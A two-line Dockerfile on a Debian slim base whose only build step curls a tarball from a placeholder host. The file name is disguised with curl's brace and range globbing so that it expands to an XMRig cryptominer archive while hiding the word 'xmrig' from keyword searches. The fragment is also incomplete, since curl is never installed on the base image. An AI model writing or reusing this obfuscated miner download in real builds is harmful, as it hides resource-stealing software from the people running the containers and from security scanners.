FROM debian:12-slim
RUN curl -LO "https://dl.example.invalid/xm{rig}-[6-6].tar.gz"
